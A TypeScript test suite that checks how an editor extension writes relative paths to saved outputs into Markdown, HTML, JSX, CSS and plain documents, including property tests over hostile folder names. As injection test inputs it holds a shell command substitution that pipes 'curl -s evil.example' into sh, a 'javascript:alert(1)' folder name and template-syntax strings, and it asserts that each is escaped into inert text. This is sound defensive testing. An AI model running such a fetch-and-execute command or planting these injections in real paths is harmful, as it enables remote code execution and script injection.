/**
 * How a saved output's path is written into documents of each language. The path runs from the document's
 * folder to the file in the user's output folder, and folder names can hold any character, so besides the
 * examples, generated workspaces with hostile folder names are laid out, the path inserted, and the result
 * read back with each language's real parser: exactly the one image, link, element or url() meant, whose
 * reference resolves (node:url, not our code) from the document to the saved file.
 */
import * as assert from 'node:assert/strict';
import { fileURLToPath, pathToFileURL } from 'node:url';
import * as csstree from 'css-tree';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { parseFragment, type DefaultTreeAdapterMap } from 'parse5';
import ts from 'typescript';

import { cleanAltText } from '../../../src/core/insertFormat';
import { formatSavedPathForLanguage, relativeOutputPath, type SavedOutput } from '../../../src/core/outputPaths';
import { HOSTILE_PIECES } from './hostilePieces';

const MARKDOWN_LANGUAGES = ['markdown', 'mdx'];
const HTML_LANGUAGES = ['html', 'vue', 'svelte', 'astro', 'php', 'handlebars', 'razor', 'erb'];
const JSX_LANGUAGES = ['javascriptreact', 'typescriptreact'];
const CSS_LANGUAGES = ['css', 'scss', 'less', 'sass', 'stylus', 'postcss'];
const OTHER_LANGUAGES = ['plaintext', 'python', 'json', 'javascript', 'typescript'];
const ALL_LANGUAGES = [...MARKDOWN_LANGUAGES, ...HTML_LANGUAGES, ...JSX_LANGUAGES, ...CSS_LANGUAGES, ...OTHER_LANGUAGES];
/** Where a bundler resolves the reference: only `./` and `../` name a file there. */
const BUNDLED_LANGUAGES = ['javascript', 'typescript', 'javascriptreact', 'typescriptreact', 'vue', 'svelte', 'astro'];

const PROPERTY_RUNS = { seed: 20261201, numRuns: 300 };

const HOSTILE = HOSTILE_PIECES;

const hostileText = (maxLength: number): fc.Arbitrary<string> =>
  fc.string({ unit: fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength });

/** A POSIX file or folder name: anything but '/' and NUL, and not '.' or '..'. */
const posixName: fc.Arbitrary<string> = hostileText(8)
  // eslint-disable-next-line no-control-regex -- NUL is the one character besides '/' a POSIX name cannot hold
  .map((text) => text.replace(/[/\u0000]/g, '-'))
  .filter((name) => name !== '' && name !== '.' && name !== '..');

/** What Windows allows in a name: no controls, none of `<>:"/\|?*`, and no trailing dot or space. */
const windowsName: fc.Arbitrary<string> = hostileText(8)
  // eslint-disable-next-line no-control-regex -- Windows refuses control characters in names
  .map((text) => text.replace(/[\u0000-\u001f<>:"/\\|?*]/g, '-').replace(/[. ]+$/, ''))
  .filter((name) => name !== '');

const ALT = fc.option(hostileText(30), { nil: undefined });
const OUTPUT_TYPE = fc.constantFrom('imageUrl', 'videoUrl', 'text');
const EXTENSION = { imageUrl: '.png', videoUrl: '.mp4', text: '.txt' } as const;

interface Layout {
  /** The workspace root's segments (below '/' or the drive). */
  root: string[];
  /** The document's folder below the root, and its file name. */
  documentFolder: string[];
  /** The saved file's folder below the root (the output folder) and its name. */
  outputFolder: string[];
  fileName: string;
  windows: boolean;
}

function layout(name: fc.Arbitrary<string>, windows: boolean): fc.Arbitrary<Layout> {
  const segments = (max: number): fc.Arbitrary<string[]> => fc.array(name, { maxLength: max });
  return fc
    .record({
      root: segments(2),
      shared: segments(2),
      documentFolder: segments(3),
      outputFolder: segments(2),
      stem: name,
      type: OUTPUT_TYPE,
      otherCase: fc.boolean(),
    })
    .map(({ root, shared, documentFolder, outputFolder, stem, type, otherCase }) => ({
      root,
      // Folders the document and the output folder share, so the path does not always climb to the root;
      // on Windows the document may spell them in another case, which names the same folders there.
      documentFolder: [
        ...(windows && otherCase ? shared.map((name) => name.replace(/[a-z]/g, (letter) => letter.toUpperCase())) : shared),
        ...documentFolder,
      ],
      outputFolder: [...shared, ...outputFolder],
      fileName: `${stem}${EXTENSION[type]}`,
      windows,
    }));
}

/** Generated workspaces: POSIX (any name but '/') and Windows (drive paths) alike. */
const LAYOUT = fc.oneof({ weight: 3, arbitrary: layout(posixName, false) }, { weight: 1, arbitrary: layout(windowsName, true) });

function documentPath(where: Layout): string {
  const segments = [...where.root, ...where.documentFolder, 'page.md'];
  return where.windows ? `C:\\${segments.join('\\')}` : `/${segments.join('/')}`;
}

function savedPath(where: Layout): string {
  const segments = [...where.root, ...where.outputFolder, where.fileName];
  return where.windows ? `C:\\${segments.join('\\')}` : `/${segments.join('/')}`;
}

/** Windows compares names without case, as node:path.win32 does. */
function sameName(where: Layout, left: string, right: string): boolean {
  return where.windows ? left.toLowerCase() === right.toLowerCase() : left === right;
}

/**
 * The path from the spec rather than from node:path: one `../` per folder of the document's that is not
 * also the file's, then the rest of the file's, and `./` where the language or a scheme-like first segment
 * needs it.
 */
function expectedPath(where: Layout, languageId: string): string {
  const from = where.documentFolder;
  const to = [...where.outputFolder, where.fileName];
  let common = 0;
  while (common < from.length && common < to.length - 1 && sameName(where, from[common] ?? '', to[common] ?? '')) common++;
  const relative = `${'../'.repeat(from.length - common)}${to.slice(common).join('/')}`;
  if (BUNDLED_LANGUAGES.includes(languageId)) return relative.startsWith('../') ? relative : `./${relative}`;
  const first = relative.split('/')[0] ?? '';
  return first.includes(':') || first.startsWith('~') || first.startsWith('@') ? `./${relative}` : relative;
}

/** A file cannot also be a folder on the document's way. */
function possible(where: Layout): boolean {
  const fileIndex = where.outputFolder.length;
  const documentFolder = where.documentFolder;
  return !(
    documentFolder.length > fileIndex &&
    where.outputFolder.every((name, index) => sameName(where, name, documentFolder[index] ?? '')) &&
    sameName(where, documentFolder[fileIndex] ?? '', where.fileName)
  );
}

/**
 * Where a URL reference in the document leads, by the WHATWG URL parser from the document's own file URL
 * (node:url builds and reads those): it must be the saved file.
 */
function resolvedFile(where: Layout, reference: string): string {
  const windows = { windows: where.windows };
  return fileURLToPath(new URL(reference, pathToFileURL(documentPath(where), windows)), windows);
}

function assertLeadsToSavedFile(where: Layout, reference: string): void {
  const resolved = resolvedFile(where, reference);
  const saved = savedPath(where);
  if (where.windows) assert.equal(resolved.toLowerCase(), saved.toLowerCase());
  else assert.equal(resolved, saved);
}

/** Invisible, separator and control characters: written as escapes, so the reader sees what the path holds. */
const UNSEEN = /[\p{C}\p{Z}]/u;

const md = new MarkdownIt({ html: true });
type MarkdownToken = ReturnType<MarkdownIt['parse']>[number];

function plainTextOf(tokens: readonly MarkdownToken[]): string {
  for (const token of tokens) assert.ok(['text', 'text_special'].includes(token.type), `a ${token.type} token in the text`);
  return tokens.map((token) => token.content).join('');
}

/** The one image or link's destination, checked to be the only thing in the paragraph. */
function markdownReference(text: string, output: SavedOutput): string {
  const tokens = md.parse(text, {});
  assert.deepEqual(
    tokens.map((token) => token.type),
    ['paragraph_open', 'inline', 'paragraph_close'],
    `exactly one paragraph in ${JSON.stringify(text)}`,
  );
  const children = tokens[1]?.children ?? [];
  assert.ok(!children.some((token) => token.type.startsWith('html')), 'no raw HTML');
  const name = cleanAltText(output.alt);
  if (output.type === 'imageUrl') {
    assert.equal(children.length, 1, `exactly one image in ${JSON.stringify(text)}`);
    const image = children[0];
    assert.equal(image?.type, 'image');
    assert.equal(plainTextOf(image?.children ?? []), name);
    return image?.attrGet('src') ?? '';
  }
  assert.equal(children[0]?.type, 'link_open', `a link in ${JSON.stringify(text)}`);
  assert.equal(children.at(-1)?.type, 'link_close', 'one link only');
  assert.deepEqual(children[0]?.attrs?.length, 1, 'only href');
  assert.equal(plainTextOf(children.slice(1, -1)), name);
  return children[0]?.attrGet('href') ?? '';
}

type Element = DefaultTreeAdapterMap['element'];

/** The one element's URL attribute, checked to be the only element, with exactly our attributes. */
function markupReference(languageId: string, text: string, output: SavedOutput): string {
  const nodes = parseFragment(text).childNodes;
  assert.equal(nodes.length, 1, `exactly one node in ${JSON.stringify(text)}`);
  const element = nodes[0] as Element;
  const attributes = (element.attrs ?? []).map(({ name, value }) => [name, value]);
  const name = cleanAltText(output.alt);
  let reference: string | undefined;
  if (output.type === 'imageUrl') {
    assert.equal(element.tagName, 'img');
    assert.equal(attributes.length, 2);
    assert.deepEqual(attributes[1], ['alt', name]);
    assert.equal(attributes[0]?.[0], 'src');
    reference = attributes[0]?.[1];
  } else if (output.type === 'videoUrl') {
    assert.equal(element.tagName, 'video');
    assert.equal(attributes.length, 2);
    assert.deepEqual(attributes[1], ['controls', '']);
    assert.equal(attributes[0]?.[0], 'src');
    assert.equal(element.childNodes.length, 0);
    reference = attributes[0]?.[1];
  } else {
    assert.equal(element.tagName, 'a');
    assert.equal(attributes.length, 1);
    assert.equal(attributes[0]?.[0], 'href');
    assert.equal(element.childNodes.length, 1);
    const child = element.childNodes[0] as DefaultTreeAdapterMap['textNode'];
    assert.equal(child.nodeName, '#text');
    assert.equal(child.value, name);
    reference = attributes[0]?.[1];
  }
  // Template syntax stays dead: Svelte/Astro `{…}`, Vue/Handlebars `{{…}}`, Razor `@…`, PHP `<?`, ERB `<%`.
  assert.doesNotMatch(text, /[{}@]/, `${languageId}: template syntax in ${JSON.stringify(text)}`);
  assert.doesNotMatch(text, /<(?!\/?(?:img|video|a)[ >])/, `${languageId}: a stray "<"`);
  return reference ?? '';
}

/** The one url()'s value, checked to be the only thing in the value. */
function cssReference(languageId: string, text: string): string {
  const value = csstree.parse(text, { context: 'value' });
  const urls: string[] = [];
  let nodes = 0;
  csstree.walk(value, (node) => {
    if (node.type !== 'Value') nodes++;
    if (node.type === 'Url') urls.push(node.value);
  });
  assert.equal(urls.length, 1, `one url() in ${JSON.stringify(text)}`);
  assert.equal(nodes, 1, 'nothing beside the url()');
  // No SCSS #{…}, Less @{…}, or a block of any dialect.
  assert.doesNotMatch(text, /[{}]/, `${languageId}: braces in ${JSON.stringify(text)}`);
  return urls[0] ?? '';
}

/** JSX decodes HTML's entities in attribute strings and text, as an HTML parser does. */
function decodeEntities(raw: string): string {
  const element = parseFragment(`<b title="${raw.replace(/"/g, '&quot;')}"></b>`).childNodes[0] as Element;
  return element.attrs[0]?.value ?? '';
}

/**
 * The one JSX element, read by the TypeScript compiler: no syntax errors, nothing else in the file, and a
 * source of exactly `new URL(<string literal>, import.meta.url).href`, whose literal's value is returned.
 */
function jsxPath(text: string, output: SavedOutput): string {
  const diagnostics = ts.transpileModule(text, {
    fileName: 'x.tsx',
    reportDiagnostics: true,
    compilerOptions: { jsx: ts.JsxEmit.Preserve, target: ts.ScriptTarget.Latest, module: ts.ModuleKind.ESNext },
  }).diagnostics;
  assert.deepEqual(
    diagnostics?.map((diagnostic) => ts.flattenDiagnosticMessageText(diagnostic.messageText, '\n')),
    [],
    `syntax errors in ${JSON.stringify(text)}`,
  );
  const file = ts.createSourceFile('x.tsx', text, ts.ScriptTarget.Latest, true, ts.ScriptKind.TSX);
  let elements = 0;
  const visit = (node: ts.Node): void => {
    if (ts.isJsxSelfClosingElement(node) || ts.isJsxOpeningElement(node)) elements++;
    ts.forEachChild(node, visit);
  };
  visit(file);
  assert.equal(elements, 1, `exactly one JSX element in ${JSON.stringify(text)}`);
  assert.equal(file.statements.length, 1);
  const statement = file.statements[0];
  assert.ok(statement !== undefined && ts.isExpressionStatement(statement));
  const expression = statement.expression;
  const name = cleanAltText(output.alt);
  let opening: ts.JsxSelfClosingElement | ts.JsxOpeningElement;
  if (output.type === 'text') {
    assert.ok(ts.isJsxElement(expression), 'a link element');
    opening = expression.openingElement;
    assert.equal(opening.tagName.getText(file), 'a');
    assert.equal(expression.children.length, 1);
    const child = expression.children[0];
    assert.ok(child !== undefined && ts.isJsxText(child));
    assert.equal(decodeEntities(child.text), name);
  } else {
    assert.ok(ts.isJsxSelfClosingElement(expression), 'a self-closing element');
    opening = expression;
    assert.equal(opening.tagName.getText(file), output.type === 'imageUrl' ? 'img' : 'video');
  }
  const attributes = opening.attributes.properties.map((attribute) => {
    assert.ok(ts.isJsxAttribute(attribute), 'no spread attributes');
    return attribute;
  });
  const names = attributes.map((attribute) => attribute.name.getText(file));
  assert.deepEqual(names, output.type === 'imageUrl' ? ['src', 'alt'] : output.type === 'videoUrl' ? ['src', 'controls'] : ['href']);
  if (output.type === 'imageUrl') {
    const alt = attributes[1]?.initializer;
    assert.ok(alt !== undefined && ts.isStringLiteral(alt));
    assert.equal(decodeEntities(alt.text), name);
  }
  if (output.type === 'videoUrl') assert.equal(attributes[1]?.initializer, undefined);

  const source = attributes[0]?.initializer;
  assert.ok(source !== undefined && ts.isJsxExpression(source) && source.expression !== undefined);
  const href = source.expression;
  assert.ok(ts.isPropertyAccessExpression(href) && href.name.text === 'href', '….href');
  const created = href.expression;
  assert.ok(ts.isNewExpression(created) && ts.isIdentifier(created.expression) && created.expression.text === 'URL', 'new URL(…)');
  const [literal, base, ...rest] = created.arguments ?? [];
  assert.equal(rest.length, 0);
  assert.ok(literal !== undefined && ts.isStringLiteral(literal), 'a string literal');
  assert.doesNotMatch(literal.getText(file).replace(/ /g, ''), UNSEEN, 'unseen characters as escapes');
  assert.ok(
    base !== undefined &&
      ts.isPropertyAccessExpression(base) &&
      base.name.text === 'url' &&
      ts.isMetaProperty(base.expression) &&
      base.expression.keywordToken === ts.SyntaxKind.ImportKeyword,
    'import.meta.url',
  );
  return literal.text;
}

const IMAGE = { path: '../../../flora-outputs/x.png', type: 'imageUrl', alt: 'Studio Shot' };
const VIDEO = { path: '../../../flora-outputs/clip.mp4', type: 'videoUrl' };
const TEXT = { path: '../../../flora-outputs/palette.txt', type: 'text', alt: 'Palette' };

describe('core/outputPaths relativeOutputPath', () => {
  it('climbs from a document in nested folders to the output folder', () => {
    for (const language of ['markdown', 'html', 'css', 'plaintext', 'typescriptreact', 'vue']) {
      assert.equal(relativeOutputPath('/ws/docs/a/b/page.md', '/ws/flora-outputs/x.png', language), '../../../flora-outputs/x.png');
    }
  });

  it('in the same folder or below it: bare for markdown, html and css, "./" where a bundler resolves it', () => {
    for (const language of ['markdown', 'mdx', 'html', 'php', 'css', 'scss', 'plaintext']) {
      assert.equal(relativeOutputPath('/ws/page.md', '/ws/x.png', language), 'x.png');
      assert.equal(relativeOutputPath('/ws/page.md', '/ws/flora-outputs/x.png', language), 'flora-outputs/x.png');
    }
    for (const language of BUNDLED_LANGUAGES) {
      assert.equal(relativeOutputPath('/ws/src/App.tsx', '/ws/src/x.png', language), './x.png');
      assert.equal(relativeOutputPath('/ws/App.tsx', '/ws/flora-outputs/x.png', language), './flora-outputs/x.png');
      assert.equal(relativeOutputPath('/ws/src/App.tsx', '/ws/flora-outputs/x.png', language), '../flora-outputs/x.png');
    }
  });

  it('a first folder that would read as a scheme, a module or an alias gets "./"', () => {
    assert.equal(relativeOutputPath('/ws/page.md', '/ws/javascript:alert(1)/x.png', 'markdown'), './javascript:alert(1)/x.png');
    assert.equal(relativeOutputPath('/ws/page.md', '/ws/~assets/x.png', 'css'), './~assets/x.png');
    assert.equal(relativeOutputPath('/ws/page.md', '/ws/@images/x.png', 'html'), './@images/x.png');
    assert.equal(relativeOutputPath('/ws/page.md', '/ws/a/b:c/x.png', 'markdown'), 'a/b:c/x.png');
  });

  it('Windows paths: forward slashes, drive letters and case compared as Windows does', () => {
    assert.equal(relativeOutputPath('C:\\ws\\docs\\a\\page.md', 'C:\\ws\\flora-outputs\\x.png', 'markdown'), '../../flora-outputs/x.png');
    assert.equal(relativeOutputPath('c:\\WS\\Docs\\page.md', 'C:\\ws\\docs\\x.png', 'markdown'), 'x.png');
    assert.equal(relativeOutputPath('c:/ws/src/App.jsx', 'C:\\ws\\src\\img\\x.png', 'javascriptreact'), './img/x.png');
    assert.equal(
      relativeOutputPath('\\\\server\\share\\docs\\page.md', '\\\\server\\share\\flora-outputs\\x.png', 'markdown'),
      '../flora-outputs/x.png',
    );
  });

  it('no relative path: untitled documents, other drives or shares, one Windows and one POSIX path', () => {
    assert.equal(relativeOutputPath(undefined, '/ws/flora-outputs/x.png', 'markdown'), undefined);
    assert.equal(relativeOutputPath('C:\\ws\\page.md', 'D:\\ws\\flora-outputs\\x.png', 'markdown'), undefined);
    assert.equal(relativeOutputPath('\\\\one\\share\\page.md', '\\\\two\\share\\x.png', 'markdown'), undefined);
    assert.equal(relativeOutputPath('/ws/page.md', 'C:\\ws\\x.png', 'markdown'), undefined);
  });

  it('a backslash in a POSIX name is part of the name, not a separator', () => {
    assert.equal(relativeOutputPath('/ws/docs/page.md', '/ws/out\\put/x.png', 'markdown'), '../out\\put/x.png');
  });

  it('property: generated workspaces with hostile names, POSIX and Windows: the path the spec gives', () => {
    fc.assert(
      fc.property(LAYOUT, fc.constantFrom(...ALL_LANGUAGES), (where, language) => {
        fc.pre(possible(where));
        assert.equal(relativeOutputPath(documentPath(where), savedPath(where), language), expectedPath(where, language));
      }),
      PROPERTY_RUNS,
    );
  });
});

describe('core/outputPaths formatSavedPathForLanguage', () => {
  it('markdown: an image for images, a link for videos and other outputs', () => {
    for (const language of MARKDOWN_LANGUAGES) {
      assert.equal(formatSavedPathForLanguage(language, IMAGE), '![Studio Shot](../../../flora-outputs/x.png)');
      assert.equal(formatSavedPathForLanguage(language, VIDEO), '[FLORA output](../../../flora-outputs/clip.mp4)');
      assert.equal(formatSavedPathForLanguage(language, TEXT), '[Palette](../../../flora-outputs/palette.txt)');
    }
  });

  it('markdown: spaces, parentheses, "&", "%", "#" and "<>" percent-encoded; the alt text escaped', () => {
    const tricky = { path: '../My Assets (2024) & <co> #1 100%/x.png', type: 'imageUrl', alt: 'Wonder[fy]' };
    assert.equal(
      formatSavedPathForLanguage('markdown', tricky),
      '![Wonder\\[fy\\]](../My%20Assets%20%282024%29%20%26%20%3Cco%3E%20%231%20100%25/x.png)',
    );
  });

  it('html-like: img, video and a, with the path percent-encoded and escaped for the attribute', () => {
    for (const language of HTML_LANGUAGES) {
      assert.equal(formatSavedPathForLanguage(language, IMAGE), '<img src="../../../flora-outputs/x.png" alt="Studio Shot">');
      assert.equal(formatSavedPathForLanguage(language, VIDEO), '<video src="../../../flora-outputs/clip.mp4" controls></video>');
      assert.equal(formatSavedPathForLanguage(language, TEXT), '<a href="../../../flora-outputs/palette.txt">Palette</a>');
    }
    assert.equal(
      formatSavedPathForLanguage('vue', { path: "./a b/{{x}} @y 'q' #1?%/x.png", type: 'imageUrl', alt: 'A' }),
      '<img src="./a%20b/%7B%7Bx%7D%7D%20&#64;y%20&#39;q&#39;%20%231%3F%25/x.png" alt="A">',
    );
  });

  it('jsx: the element takes new URL("…", import.meta.url).href, which bundlers resolve to the file', () => {
    for (const language of JSX_LANGUAGES) {
      assert.equal(
        formatSavedPathForLanguage(language, IMAGE),
        '<img src={new URL("../../../flora-outputs/x.png", import.meta.url).href} alt="Studio Shot" />',
      );
      assert.equal(
        formatSavedPathForLanguage(language, VIDEO),
        '<video src={new URL("../../../flora-outputs/clip.mp4", import.meta.url).href} controls />',
      );
      assert.equal(
        formatSavedPathForLanguage(language, TEXT),
        '<a href={new URL("../../../flora-outputs/palette.txt", import.meta.url).href}>Palette</a>',
      );
    }
    assert.equal(
      formatSavedPathForLanguage('typescriptreact', { path: '../a "b" \\ ${c}\u2028\u202e/x.png', type: 'videoUrl' }),
      '<video src={new URL("../a \\"b\\" \\\\ ${c}\\u2028\\u202e/x.png", import.meta.url).href} controls />',
    );
    // A bare path would be a package name to the bundler.
    assert.equal(
      formatSavedPathForLanguage('javascriptreact', { path: 'x.png', type: 'videoUrl' }),
      '<video src={new URL("./x.png", import.meta.url).href} controls />',
    );
  });

  it('css-like: url("…") for images and videos, percent-encoded and string-escaped; the path for others', () => {
    for (const language of CSS_LANGUAGES) {
      assert.equal(formatSavedPathForLanguage(language, IMAGE), 'url("../../../flora-outputs/x.png")');
      assert.equal(formatSavedPathForLanguage(language, VIDEO), 'url("../../../flora-outputs/clip.mp4")');
      assert.equal(formatSavedPathForLanguage(language, TEXT), '../../../flora-outputs/palette.txt');
    }
    assert.equal(
      formatSavedPathForLanguage('scss', { path: '../#{x} "q"\\/x.png', type: 'imageUrl' }),
      'url("../%23%7Bx%7D%20%22q%22%5C/x.png")',
    );
  });

  it('plain format and other languages: the path, with nothing but unreserved characters left as they are', () => {
    for (const language of ALL_LANGUAGES) {
      assert.equal(formatSavedPathForLanguage(language, IMAGE, { format: 'plain' }), IMAGE.path);
    }
    for (const language of OTHER_LANGUAGES) assert.equal(formatSavedPathForLanguage(language, IMAGE), IMAGE.path);
    // A folder named to run code in a shell script or close a string stays inert text.
    const shell = { path: "../$(curl -s evil.example|sh)/it's `x`.png", type: 'imageUrl' };
    assert.equal(formatSavedPathForLanguage('shellscript', shell), '../%24%28curl%20-s%20evil.example%7Csh%29/it%27s%20%60x%60.png');
  });

  describe('properties: hostile folder names, read back by each language parser', () => {
    /** A generated workspace, a language from the family, and the output saved in it. */
    const saved = (languages: string[]) =>
      fc.record({ where: LAYOUT, language: fc.constantFrom(...languages), alt: ALT }).filter(({ where }) => possible(where));

    function outputIn(where: Layout, language: string, alt: string | undefined): { output: SavedOutput; expected: string } {
      const type = where.fileName.endsWith('.png') ? 'imageUrl' : where.fileName.endsWith('.mp4') ? 'videoUrl' : 'text';
      const relative = relativeOutputPath(documentPath(where), savedPath(where), language);
      const expected = expectedPath(where, language);
      assert.equal(relative, expected);
      return { output: { path: expected, type, alt }, expected };
    }

    it('markdown and mdx: one image or link whose destination, decoded, is the path and leads to the file', () => {
      fc.assert(
        fc.property(saved(MARKDOWN_LANGUAGES), ({ where, language, alt }) => {
          const { output, expected } = outputIn(where, language, alt);
          const text = formatSavedPathForLanguage(language, output);
          const reference = markdownReference(text, output);
          assert.equal(decodeURIComponent(reference), expected);
          // The destination as written (the alt text before it is escaped, so "](" is ours).
          assert.doesNotMatch(text.slice(text.lastIndexOf('](') + 2, -1), UNSEEN);
          assertLeadsToSavedFile(where, reference);
        }),
        PROPERTY_RUNS,
      );
    });

    it('html-like: one element with exactly our attributes, the reference decoded the path, leading to the file', () => {
      fc.assert(
        fc.property(saved(HTML_LANGUAGES), ({ where, language, alt }) => {
          const { output, expected } = outputIn(where, language, alt);
          const reference = markupReference(language, formatSavedPathForLanguage(language, output), output);
          assert.equal(decodeURIComponent(reference), expected);
          assert.doesNotMatch(reference, UNSEEN);
          assertLeadsToSavedFile(where, reference);
        }),
        PROPERTY_RUNS,
      );
    });

    it('jsx: one element whose source is new URL(literal, import.meta.url).href, the literal the path', () => {
      fc.assert(
        fc.property(saved(JSX_LANGUAGES), ({ where, language, alt }) => {
          const { output, expected } = outputIn(where, language, alt);
          assert.equal(jsxPath(formatSavedPathForLanguage(language, output), output), expected);
          assert.match(expected, /^\.\.?\//, 'a file to the bundler');
        }),
        PROPERTY_RUNS,
      );
    });

    it('css-like: one url() whose value, decoded, is the path and leads to the file; the path for other outputs', () => {
      fc.assert(
        fc.property(saved(CSS_LANGUAGES), ({ where, language, alt }) => {
          const { output, expected } = outputIn(where, language, alt);
          const text = formatSavedPathForLanguage(language, output);
          if (output.type === 'text') {
            assert.match(text, /^[A-Za-z0-9._~%/-]*$/);
            if (isWellFormed(expected)) assert.equal(decodeURIComponent(text), expected);
            return;
          }
          const reference = cssReference(language, text);
          assert.equal(decodeURIComponent(reference), expected);
          assert.doesNotMatch(reference, UNSEEN);
          assertLeadsToSavedFile(where, reference);
        }),
        PROPERTY_RUNS,
      );
    });

    it('plain format and other languages: the path percent-encoded beyond unreserved characters', () => {
      fc.assert(
        fc.property(saved(ALL_LANGUAGES), ({ where, language, alt }) => {
          const { output, expected } = outputIn(where, language, alt);
          const written = [formatSavedPathForLanguage(language, output, { format: 'plain' })];
          if (OTHER_LANGUAGES.includes(language)) written.push(formatSavedPathForLanguage(language, output));
          for (const text of written) {
            assert.match(text, /^[A-Za-z0-9._~%/-]*$/);
            // A lone surrogate (possible in Windows names only) has no UTF-8 form to read back.
            if (isWellFormed(expected)) assert.equal(decodeURIComponent(text), expected);
          }
        }),
        PROPERTY_RUNS,
      );
    });
  });
});

/** String.prototype.isWellFormed, which the ES2022 library this project compiles against does not declare. */
function isWellFormed(text: string): boolean {
  return !/\p{Cs}/u.test(text);
}
